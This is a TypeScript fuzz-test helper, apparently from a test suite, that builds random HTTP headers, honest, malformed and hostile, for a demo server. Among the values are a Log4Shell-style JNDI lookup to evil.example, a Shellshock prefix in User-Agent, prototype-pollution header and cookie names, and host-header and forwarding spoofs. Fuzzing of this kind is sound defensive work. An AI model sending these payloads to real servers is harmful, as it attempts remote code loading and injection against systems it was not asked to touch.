// Headers that requests come with: those of honest clients, those of proxies and pages, and those that are meant to harm.
// All of them are HTTP as such; what is not is in broken-heads.ts.
import type { Random } from '../../src/demo/random.ts';
import { HOSTILE_TEXTS } from './hostile-text.ts';

const ACCEPTS = [
  'application/json', '*/*', 'text/html,application/xhtml+xml', 'application/problem+json', 'application/json;q=0', '', ';;;',
  'text/html;q=0.5, application/json;q=nonsense', `${'a/b,'.repeat(200)}a/b`, 'application/json, text/event-stream',
]; // prettier-ignore

const TAGS = [
  '*',
  '"x"',
  'W/"x"',
  'W/"AAAAAAAAAAAAAAAAAAAAAAAAAAA"',
  'nonsense',
  `"${'x'.repeat(3000)}"`,
  '"a", "b"',
  '"',
];

type HeaderMaker = (random: Random) => string;

const MAKERS: readonly HeaderMaker[] = [
  (random) => `Accept: ${random.pick(ACCEPTS)}`,
  (random) => `Accept-Encoding: ${random.pick(['gzip', 'br', 'gzip;q=0', '*', 'identity;q=0', 'deflate', 'gzip, br, zstd', ';q=0'])}`,
  (random) => `Prefer: ${random.pick(['handling=strict', 'handling=lenient', 'handling=', 'HANDLING="strict"', 'return=minimal', ','])}`,
  (random) => `If-None-Match: ${random.pick(TAGS)}`,
  (random) => `Authorization: ${random.pick(['Bearer x', 'Bearer', 'Basic Og==', 'Bearer a.b.c', `Bearer ${'x'.repeat(5000)}`, 'bearer  \t x'])}`,
  (random) => `Origin: ${random.pick(['null', 'https://evil.example', 'http://localhost:1', 'file://', 'javascript:1', '*'])}`,
  (random) => `X-Forwarded-Host: ${random.pick(['evil.example', 'a b', '[::1]', '../', 'evil.example, b', '"><i-fuzz>'])}`,
  (random) => `X-Forwarded-Proto: ${random.pick(['https', 'javascript', 'gopher', ''])}`,
  (random) => `X-Forwarded-For: ${random.pick(['127.0.0.1', '::1', 'nonsense', `${'1.2.3.4, '.repeat(300)}1.2.3.4`, ''])}`,
  (random) => `Forwarded: ${random.pick(['for=127.0.0.1;host=evil.example;proto=http', 'for="[::1]"', ';;;'])}`,
  (random) => `X-Request-Id: ${random.pick(['<i-fuzz>', 'a'.repeat(2000), '-'])}`,
  (random) => `${random.pick(['X-Original-URL', 'X-Rewrite-URL', 'X-HTTP-Method-Override', 'X-Http-Method'])}: ${random.pick(['/status', 'DELETE', '//evil.example'])}`,
  (random) => `Range: ${random.pick(['bytes=0-0', 'bytes=-1', 'bytes=9-1', 'nonsense'])}`,
  (random) => `Cookie: ${random.pick(['a=b', '__proto__=x', `a=${'x'.repeat(4000)}`, ';;;='])}`,
  (random) => `Referer: ${random.pick(['https://evil.example/', 'nonsense', ''])}`,
  (random) => `User-Agent: ${random.pick(['fuzz', '() { :;}; echo', '${jndi:ldap://evil.example/}', ''])}`,
  (random) => `Content-Type: ${random.pick(['application/json', 'text/plain', ';', 'multipart/form-data', 'application/x-www-form-urlencoded'])}`,
  (random) => `${random.pick(['__proto__', 'constructor', 'toString', 'X-Fuzz-In'])}: ${random.pick(['x', '{}', ''])}`,
  (random) => `Access-Control-Request-Method: ${random.pick(['GET', 'DELETE', 'nonsense'])}`,
  (random) => `Access-Control-Request-Headers: ${random.pick(['x-fuzz', 'a,b,c', '*', 'nonsense nonsense'])}`,
  (random) => `Upgrade: ${random.pick(['websocket', 'h2c', 'HTTP/3', 'nonsense'])}\r\nConnection: Upgrade`,
  (random) => `Connection: ${random.pick(['close', 'keep-alive', 'Host', 'Content-Length, close', 'nonsense'])}`,
  (random) => `Expect: ${random.pick(['100-continue', 'nonsense', ''])}`,
  (random) => `TE: ${random.pick(['trailers', 'chunked', 'gzip;q=0.5'])}`,
  (random) => `Via: ${'1.1 a, '.repeat(random.whole(0, 200))}1.1 b`,
  (random) => `X-Bytes: ${Buffer.from(random.pick(HOSTILE_TEXTS)).toString('latin1').replace(/[\0-\x1f\x7f]/g, '')}`,
  (random) => Array.from({ length: random.pick([2, 50, 900]) }, (_, at) => `X-${at}: ${at}`).join('\r\n'),
]; // prettier-ignore

const HOSTS = [
  'localhost',
  '127.0.0.1',
  'cars.example',
  'evil.example',
  'a b',
  '',
  '[::1]',
  '"><i-fuzz>',
  'evil.example:99999',
];

/** A Host header, and a few others. */
export function headers(random: Random): string[] {
  const host = `Host: ${random.chance(0.7) ? '127.0.0.1' : random.pick(HOSTS)}`;
  const count = random.chance(0.5) ? 0 : random.whole(1, 6);
  return [host, ...Array.from({ length: count }, () => random.pick(MAKERS)(random))];
}
